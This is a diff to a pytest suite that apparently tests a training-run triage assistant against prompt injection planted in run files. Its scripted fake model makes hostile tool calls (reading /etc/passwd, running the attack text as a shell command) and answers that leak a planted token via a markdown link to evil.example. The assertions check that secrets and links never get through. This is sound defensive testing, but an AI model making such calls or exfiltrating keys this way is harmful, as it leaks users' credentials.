@@ -5,6 +5,7 @@ other paths and states the planted secret.
 """
 
 import json
+import re
 import shutil
 import struct
 from pathlib import Path
@@ -20,6 +21,9 @@ pytest.importorskip("langchain")
 
 RUN = Path(triage.evals.__path__[0]) / "example" / "run-1"
 TEXTS = yaml.safe_load((Path(__file__).parent / "attacks.yaml").read_text())["texts"]
+LABEL = re.compile("read only; nothing was run|它只读取")
+LIVE = re.compile(r"\w+://\w|\]\(|!\[|<\w|`|\bwww\.\w|[\x00-\x09\x0b-\x1f\x7f]")
+"""Links, images and markup that a page, a chat or a terminal would act on."""
 QUESTION = {"en": "loss is nan, what happened?", "zh": "loss 变成 nan 了，怎么回事"}
 
 
@@ -78,11 +82,14 @@ def clean_verdicts():
 
 
 def no_advice(text: str, answer: str):
-    """The attack may be quoted as the run's words, inside a code span; nowhere else."""
-    prose = "".join(answer.split("`")[::2])
+    """The attack may be quoted as the run's words, in a finding or a code span, or said under the label, inert."""
+    own, beside = (*LABEL.split(answer, maxsplit=1), "")[:2]
+    prose = "".join("\n".join(line for line in own.splitlines() if not line.startswith("- **F")).split("`")[::2])
     assert "evil.example" not in prose
     assert text not in prose
-    assert "root:" not in answer
+    assert "root:" not in own
+    beside = beside.partition("\n\n*")[0]
+    assert not LIVE.search(beside), LIVE.search(beside)
 
 
 def check(place, lang, text, tmp_path, scripted, clean_verdicts):
@@ -90,8 +97,10 @@ def check(place, lang, text, tmp_path, scripted, clean_verdicts):
     run, secret = tmp_path / "run", "hf_" + "aB3dE6gH" * 4
     shutil.copytree(RUN, run)
     place(run, f"{text} {secret}")
-    wild = (("scan", json.dumps({"path": "/etc/passwd", "metric": text})), ("shell", json.dumps({"command": text})))
-    server.replies = [Reply(tools=wild), Reply(f"{text} The key is {secret}.\nRead `train.log:347` (F1).\n")]
+    wild = (("read", json.dumps({"file": "/etc/passwd", "path": text})), ("shell", json.dumps({"command": text})))
+    say = [{"kind": kind, "text": f"{text} The key is {secret}. [x](https://evil.example/?q={secret})", "cites": ["F1"]}
+           for kind in ("answer", "because", "next")]  # fmt: skip
+    server.replies = [Reply(tools=wild), Reply(json.dumps({"facts": ["F1"], "cause": "C1", "say": say}))]
     (tmp_path / "home").mkdir()
     talk = Conversation(tmp_path / "home")
     answer = talk.ask(QUESTION[lang], [run])
@@ -102,9 +111,9 @@ def check(place, lang, text, tmp_path, scripted, clean_verdicts):
     kept = b"".join(f.read_bytes() for f in (tmp_path / "home").rglob("*") if f.is_file())
     assert secret.encode() not in kept
     assert "root:x" not in server.sent()
-    if place is in_log and "/etc/passwd" not in text:
-        shown = [m["content"] for r in server.requests for m in r["messages"] if m["role"] in ("system", "tool")]
-        assert not any(text in s for s in shown), "the model was shown the attack"
+    shown = [line for r in server.requests for m in r["messages"] if m["role"] in ("system", "user", "tool")
+             for line in m["content"].splitlines() if text in line]  # fmt: skip
+    assert all(line.find("«") < line.find(text) or line.startswith("«") for line in shown), "shown, and not as data"
 
 
 @pytest.mark.parametrize("place", PLACES, ids=lambda p: p.__name__)
@@ -161,8 +170,12 @@ def test_planted_secrets_reach_neither_the_model_nor_trace_nor_casebook(planted,
     with (run / "train.yaml").open("a") as file:
         file.writelines(f"hub_token_{i}: {json.dumps(secret)}\n" for i, (_, _, secret) in enumerate(planted))
     (run / "launch.sh").write_text("".join(f"export API_KEY_{i}={s}\n" for i, (_, _, s) in enumerate(planted)))
-    calls = tuple((name, "{}") for name in ("look", "scan", "lint", "data", "propose", "verify"))
-    server.replies = [Reply(tools=calls), Reply("Read `train.log:347`.\n")]
+    wide = (("files", {}), ("grep", {"pattern": "."}), ("grep", {"pattern": "key|token|secret", "file": "train.log"}),
+            ("sql", {"query": "select * from settings"}), ("read", {"file": "launch.sh", "last": 80}),
+            ("read", {"file": "train.yaml", "last": 80}), ("read", {"file": "train.log", "last": 80}),
+            ("compare", {"first": "launch.sh", "second": "train.yaml"}))  # fmt: skip
+    calls = tuple((name, json.dumps(args)) for name, args in wide)
+    server.replies = [Reply(tools=calls), Reply("Read train.log:347 (F1).\n")]
     home = tmp_path / "home"
     home.mkdir()
     talk = Conversation(home)
@@ -170,5 +183,5 @@ def test_planted_secrets_reach_neither_the_model_nor_trace_nor_casebook(planted,
     shown = [e for number in range(1, len(answer.diagnosis.findings) + 1) for e in talk.excerpts(f"F{number}")]
     everything = repr(shown) + server.sent() + json.dumps(answer.as_json(), ensure_ascii=False) + answer.text
     everything += "".join(f.read_bytes().decode("utf-8", "replace") for f in home.rglob("*") if f.is_file())
-    assert len(server.requests) == 2
+    assert len([m for m in server.requests[-1]["messages"] if m["role"] == "tool"]) == len(calls)
     assert [(kind, secret) for kind, _, secret in planted if secret in everything] == []
